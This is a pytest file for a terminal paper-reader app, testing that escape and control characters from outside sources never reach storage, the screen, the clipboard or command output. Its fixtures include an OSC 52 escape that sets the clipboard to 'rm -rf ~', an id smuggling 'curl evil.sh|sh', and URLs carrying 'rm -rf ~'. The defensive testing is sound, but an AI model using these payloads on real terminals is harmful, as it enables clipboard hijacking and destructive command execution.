"""No control character from outside reaches the terminal, the clipboard or the library: each
source is cleaned where it comes in (a service's answer, resolve's finds, a library copy or
journal, a file of papers), and each sink (the screen, the clipboard, a command's output)
defends again."""

import json
import stat
import sys
import textwrap
from pathlib import Path
from typing import Any

import pyperclip
import pytest
from textual.strip import Strip

from tests.fetch_helpers import (
    FakeTime,
    Reply,
    Script,
    atom_feed,
    fake_time,
    note,
    notes_page,
    serving,
)
from tests.pilot_helpers import detail, ready, wait_until
from tui_reader.cli.program import main
from tui_reader.core import library_file
from tui_reader.core.formats.records import Record, metadata_from, record_from
from tui_reader.core.library import Library
from tui_reader.core.loading import load_paths
from tui_reader.core.opening import Opening
from tui_reader.core.paper import Paper
from tui_reader.core.references import links_of
from tui_reader.core.resolve import resolved_paper
from tui_reader.core.sources.openreview import VenueRequest, note_record
from tui_reader.core.sources.record import SourceRecord
from tui_reader.core.store import PaperStore
from tui_reader.terminal_output import REDRAW, output_without_controls
from tui_reader.ui.app import ReaderApp
from tui_reader.ui.paper_list import PaperList

OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"  # sets the clipboard to `rm -rf ~`, where a terminal obeys
HOSTILE_ID = f"Fx1{OSC52}\ncurl evil.sh|sh"
# Control and format characters that must never be kept in an id or a link.
UNSAFE = ["\x1b", "\x07", "\n", "\r", "\x9b", "\u200b", "\u202e", "\u2066", "\ufeff", " "]


def has_controls(text: str) -> bool:
    return any(c in text for c in ("\x1b", "\x07", "\x9b", "\u202e", "\u2066"))


# Sources


def test_an_openreview_note_whose_forum_id_holds_escapes_is_not_a_paper() -> None:
    request = VenueRequest("ICML.cc/2026/Conference")
    assert note_record(note(HOSTILE_ID, "A title"), request) is None
    for unsafe in UNSAFE:
        assert note_record(note(f"Fx1{unsafe}x", "A title"), request) is None, repr(unsafe)
    clean = note_record(note("Fx1ok", "A title"), request)
    assert clean is not None and clean.links["forum"].endswith("?id=Fx1ok")


@pytest.mark.parametrize("unsafe", UNSAFE)
def test_a_source_record_refuses_links_and_ids_holding_control_or_format_characters(
    unsafe: str,
) -> None:
    record = SourceRecord(
        "openreview:ok",
        f"Title{OSC52}",
        "Abstract",
        authors=(f"Ada{OSC52}",),
        doi=f"10.1/x{unsafe}y",
        openreview_forum=f"ok{unsafe}",
        links={
            "pdf": f"https://openreview.net/pdf?id=a{unsafe}b",
            "forum": "https://o.net/f?id=ok",
        },
    )
    assert (record.doi, record.openreview_forum) == ("", "")
    assert record.links == {"forum": "https://o.net/f?id=ok"}
    assert not has_controls(record.title + "".join(record.authors) + record.to_json())
    with pytest.raises(ValueError):
        SourceRecord(f"openreview:{unsafe}x", "T", "A")


def test_links_and_ids_of_a_file_of_papers_holding_escapes_are_left_out() -> None:
    metadata = metadata_from(
        {
            "doi": f"10.1/x{OSC52}",
            "openreview_forum": "ab\u202ecd",
            "links": {"pdf": f"https://a.org/p{OSC52}", "code": "https://github.com/a/b"},
        }
    )
    assert "doi" not in metadata
    assert metadata.get("openreview_forum", "") == ""
    assert metadata["kind_links"] == (("code", "https://github.com/a/b"),)
    record = record_from({"abstract": "Words.", "url": f"https://a.org/x{OSC52}"}, 1)
    assert isinstance(record, Record) and record.url == ""  # not mended to "…/x]52;c;…"


def hostile_found() -> dict[str, Any]:
    return {
        "checked": "2026-01-01",
        "title": f"A title{OSC52}",
        "authors": [f"Ada{OSC52}"],
        "openreview_forum": HOSTILE_ID,
        "arxiv_id": "2501.00001\u202e",
        "doi": f"10.1/x{OSC52}",
        "links": {
            "forum": f"https://openreview.net/forum?id={HOSTILE_ID}",
            "pdf": "https://openreview.net/pdf?id=ok",
            "code": "https://github.com/\u200bevil",
        },
        "matches": [{"source": f"openreview:{HOSTILE_ID}", "score": 99.0}],
    }


def test_a_library_copy_merged_in_brings_no_escape(tmp_path: Path) -> None:
    copy = tmp_path / "copy.json"
    data = {
        "version": 1,
        "papers": {
            "aaaaaaaaaaaa": {
                "resolved": hostile_found(),
                "resolved_at": "2026-01-01T00:00:00.000000Z",
            }
        },
    }
    copy.write_text(json.dumps(data), encoding="utf-8")
    library = Library.open(tmp_path / "library.json")[0]
    library.merge_copy(copy)
    library.save(fold=True)
    kept = library.resolved("aaaaaaaaaaaa")
    written = (tmp_path / "library.json").read_text(encoding="utf-8")
    assert "\\u001b" not in written and "\\u0007" not in written and "\\u202e" not in written
    assert kept["links"] == {"pdf": "https://openreview.net/pdf?id=ok"}
    assert "openreview_forum" not in kept and "arxiv_id" not in kept and "doi" not in kept
    assert kept["title"] == "A title"


def test_a_journal_line_another_program_appended_brings_no_escape(tmp_path: Path) -> None:
    path = tmp_path / "library.json"
    library = Library.open(path)[0]
    library.change_tags(["aaaaaaaaaaaa"], add=["x"])
    library.save(fold=True)
    entry = {"resolved": hostile_found(), "resolved_at": "2026-01-01T00:00:00.000000Z"}
    line = library_file.journal_line("aaaaaaaaaaaa", entry)
    library_file.journal_path(path).write_text(line, encoding="utf-8")
    again = Library.open(path)[0]
    kept = again.resolved("aaaaaaaaaaaa")
    assert not has_controls(json.dumps(kept, ensure_ascii=False))
    assert list(kept["links"]) == ["pdf"]


def test_what_resolve_found_is_read_warily_even_unchecked() -> None:
    paper = Paper("aaaaaaaaaaaa", "Abstract", "c", Path("x"), "Abstract")
    shown = resolved_paper(paper, hostile_found())
    assert shown.openreview_forum == "" and shown.arxiv_id == "" and shown.doi == ""
    assert dict(shown.kind_links) == {"pdf": "https://openreview.net/pdf?id=ok"}
    assert all(not has_controls(link) and "\n" not in link for link in links_of(shown))


def test_resolve_answered_with_escapes_keeps_none_and_prints_none(
    write_seed: Any,
    private_library: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    clock: FakeTime = fake_time(monkeypatch)
    assert clock is not None
    abstract = (
        "We study satisficing regret minimization in stochastic bandits where the learner "
        "only needs to reach a known threshold, and show uncertain upper confidence bounds "
        "attain constant regret when the threshold is realizable across many arms."
    )
    papers = Path(write_seed(abstract))
    found = note(HOSTILE_ID, f"Satisficing{OSC52}", abstract=textwrap.fill(abstract, 72))
    found["content"]["pdf"] = {"value": f"https://openreview.net/pdf{OSC52}"}  # type: ignore[index]
    good = note("Fx2good", f"Satisficing{OSC52} bandits", abstract=abstract)
    good["content"]["code"] = {"value": f"https://github.com/x{OSC52}\nrm -rf ~"}  # type: ignore[index]
    with (
        serving(Script(Reply(notes_page([found, good]))), "/notes/search") as openreview,
        serving(Script(Reply(atom_feed([], 0)))) as arxiv,
    ):
        monkeypatch.setenv(
            "TUI_READER_OPENREVIEW_API", openreview.url.removesuffix("/notes/search")
        )
        monkeypatch.setenv("TUI_READER_ARXIV_API", arxiv.url)
        assert main(["resolve", "--papers", str(papers)]) == 0
    capsys.readouterr()
    stored = private_library.read_text(encoding="utf-8") + "".join(
        p.read_text(encoding="utf-8") for p in private_library.parent.glob("library.json*")
    )
    assert "\\u001b" not in stored and "\\u0007" not in stored and "\x1b" not in stored
    kept = Library.open(private_library)[0].resolved(load_paths([papers]).papers[0].id)
    assert kept["openreview_forum"] == "Fx2good"
    assert set(kept["links"]) == {"forum", "pdf"}  # the code link held escapes
    for command in (["list", "--format", "jsonl"], ["list"], ["export", "--format", "bib"]):
        assert main([*command, "--papers", str(papers)]) == 0
        out = capsys.readouterr().out
        assert not has_controls(out) and "rm -rf" not in out, command


# Sinks


def hostile_paper() -> Paper:
    """A paper as no loader makes it: text, links and ids with escapes, as a sink may meet."""
    return Paper(
        id="aaaaaaaaaaaa",
        abstract=f"An abstract{OSC52} with \x1b[2J a clear screen",
        collection=f"Papers{OSC52}",
        source=Path(f"papers{OSC52}.jsonl"),
        headline=f"Headline{OSC52}\x9b31m",
        title=f"Headline{OSC52}",
        authors=(f"Ada{OSC52}",),
        venue=f"ICML{OSC52}",
        doi=f"10.1/x{OSC52}",
        url=f"https://example.org/a{OSC52}\nrm -rf ~",
        kind_links=(("code", f"https://github.com/x{OSC52}\nrm -rf ~"),),
        links=(f"https://example.org/b{OSC52}",),
    )


def strips_text(strips: list[Strip]) -> str:
    return "".join(segment.text for strip in strips for segment in strip)


async def test_the_screen_draws_no_control_character_of_a_paper(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copied: list[str] = []
    monkeypatch.setattr(pyperclip, "copy", copied.append)
    store = PaperStore([hostile_paper()])
    app = ReaderApp(Opening(store), Library(tmp_path / "library.json"))
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot)
        await wait_until(pilot, lambda: "An abstract" in detail(app), "the paper shown")
        assert not has_controls(detail(app)), detail(app)
        paper_list = app.query_one(PaperList)
        drawn = [paper_list.render_line(y) for y in range(3)]
        assert "Headline" in strips_text(drawn) and not has_controls(strips_text(drawn))
        screen = strips_text(app.screen._compositor.render_update(full=True).strips)  # type: ignore[attr-defined]
        assert "Headline" in screen and not has_controls(screen)
        app.notify(f"Found {OSC52}", markup=False)
        await pilot.pause()
        assert not has_controls(str(list(app._notifications)[-1].message))
        await pilot.press("y")
        await wait_until(pilot, lambda: copied, "a copy")
        assert copied and not has_controls(copied[-1]) and "\n" not in copied[-1]


def test_a_commands_output_holds_no_control_character(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    with output_without_controls():
        print(f"a{OSC52}b\tc")
        print(f"{REDRAW}fetching{OSC52}", file=sys.stderr, end="")
    captured = capsys.readouterr()
    assert captured.out == "ab\tc\n"
    assert captured.err == f"{REDRAW}fetching"  # the progress line redrawn
    monkeypatch.setattr(Library, "tag_counts", lambda self, among=None: {f"red{OSC52}": 1})
    assert main(["tags"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("red") and not has_controls(out)


def test_a_library_entry_whose_id_holds_an_escape_is_kept_aside_and_said_plainly(
    private_library: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = {"version": 1, "papers": {f"ID{OSC52}\n": {"bookmarked": True}, "aaaaaaaaaaaa": 5}}
    private_library.write_text(json.dumps(data), encoding="utf-8")
    library, messages = Library.open(private_library)
    assert library.paper_ids() == []
    assert messages and not any(has_controls(m) or "\n" in m for m in messages), messages
    assert main(["tags"]) == 0
    assert not has_controls(capsys.readouterr().err)


def test_a_bibtex_key_holding_an_escape_is_told_without_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    papers = tmp_path / "p.bib"
    papers.write_text(
        f"@article{{nokey{OSC52},\n title={{no abstract}}\n}}\n"
        "@article{good, title={T}, abstract={Some words.}}\n",
        encoding="utf-8",
    )
    assert main(["list", "--papers", str(papers)]) == 0
    captured = capsys.readouterr()
    assert "no abstract" in captured.err and not has_controls(captured.err + captured.out)


def test_a_copy_merged_in_brings_no_escape_in_its_searches_or_its_finds(tmp_path: Path) -> None:
    copy = tmp_path / "copy.json"
    at = "2026-01-01T00:00:00.000000Z"
    data = {
        "version": 1,
        "papers": {
            "aaaaaaaaaaaa": {"resolved": {"title": "Two\nlines\u2028here"}, "resolved_at": at}
        },
        "searches": {
            f"S{OSC52}": {"query": "robust", "query_at": at},
            "ok": {"query": f"gradient\x85descent{OSC52}", "query_at": at},
        },
    }
    copy.write_text(json.dumps(data), encoding="utf-8")
    library = Library.open(tmp_path / "library.json")[0]
    library.merge_copy(copy)
    assert library.saved_searches() == {"ok": "gradientdescent"}
    assert library.resolved("aaaaaaaaaaaa")["title"] == "Two lines here"


def test_a_damaged_private_library_is_mended_as_private(tmp_path: Path) -> None:
    path = tmp_path / "library.json"
    library = Library.open(path)[0]
    library.change_tags(["aaaaaaaaaaaa"], add=["x"])
    library.save(fold=True)
    for made in (path, library_file.backup_path(path)):
        made.chmod(0o600)
    path.write_text('{"version": 1, "papers": {', encoding="utf-8")
    again = Library.open(path)[0]
    again.change_tags(["aaaaaaaaaaaa"], add=["y"])
    again.save()
    written = [p for p in tmp_path.glob("library.json*") if not p.name.endswith(".lock")]
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in written} == {
        p.name: 0o600 for p in written
    }
